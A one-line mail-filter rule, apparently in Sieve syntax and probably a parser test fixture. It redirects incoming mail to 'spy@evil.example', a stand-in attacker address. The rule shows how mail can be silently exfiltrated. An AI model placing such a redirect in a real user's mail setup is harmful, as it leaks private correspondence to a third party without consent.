redirect "Alice <spy@evil.example>";
